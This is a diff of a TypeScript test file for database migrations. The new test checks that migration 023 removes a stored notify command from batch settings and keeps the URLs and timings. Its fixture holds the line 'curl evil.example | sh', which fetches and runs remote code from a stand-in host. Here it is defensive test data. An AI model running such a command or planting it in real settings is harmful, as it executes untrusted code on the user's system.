@@ -31,10 +31,28 @@ describe('PostgreSQL migrations', () => {
       expect(await migratePg(c)).toEqual(pgMigrations.map((m) => m.name));
       expect(await migratePg(c)).toEqual([]);
       const tables = (await c.query(`SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1`)).rows.map((r) => r.table_name);
-      expect(tables).toEqual(['_migrations', 'batch_spend', 'batches', 'decision_log', 'decisions', 'file_copies', 'files', 'flights', 'item_counts', 'items', 'model_batches', 'model_runs', 'outbox', 'runs', 'threads', 'web_login_codes', 'web_sessions', 'workers']);
+      expect(tables).toEqual(['_migrations', 'batch_spend', 'batches', 'decision_log', 'decisions', 'file_copies', 'files', 'flights', 'item_counts', 'items', 'model_batches', 'model_runs', 'notify_commands', 'outbox', 'runs', 'threads', 'web_login_codes', 'web_sessions', 'workers']);
       // Who decided and their note, in columns of their own (migration 016), as in SQLite.
       const cols = (await c.query(`SELECT column_name FROM information_schema.columns WHERE table_name = 'decision_log' ORDER BY ordinal_position`)).rows.map((r) => r.column_name);
       expect(cols).toEqual(['batch', 'item_id', 'tool', 'answer', 'by', 'person', 'note', 'cost', 'reason', 'decided_at']);
+    } finally {
+      await c.end();
+    }
+  });
+
+  it('023 drops a notify command an older resq stored with a batch, and keeps its URLs and timings', async () => {
+    const c = await client(await server.createDatabase('mig_023_command'));
+    try {
+      await migratePg(c, pgMigrations.slice(0, pgMigrations.findIndex((m) => m.name === '023_notify_command_local')));
+      const notify = { urls: ['https://hooks.example.com/x'], command: 'curl evil.example | sh', format: 'json', includeQuestion: false, pageUrl: null, digestMs: 60_000, remindMs: null, stalledMs: null };
+      const add = "INSERT INTO batches (id, name, source_path, source_sha256, settings, created_at, updated_at) VALUES ($1, $2, '/q.csv', 'x', $3, 'now', 'now')";
+      await c.query(add, ['b1', 'told', JSON.stringify({ concurrency: 2, notify })]);
+      await c.query(add, ['b2', 'quiet', JSON.stringify({ concurrency: 3 })]);
+      expect(await migratePg(c)).toContain('023_notify_command_local');
+      const rows = (await c.query<{ id: string; settings: string }>('SELECT id, settings FROM batches ORDER BY id')).rows;
+      const { command: _gone, ...kept } = notify;
+      expect(rows.map((r) => [r.id, JSON.parse(r.settings)])).toEqual([['b1', { concurrency: 2, notify: kept }], ['b2', { concurrency: 3 }]]);
+      expect(rows[0]!.settings).not.toContain('evil');
     } finally {
       await c.end();
     }
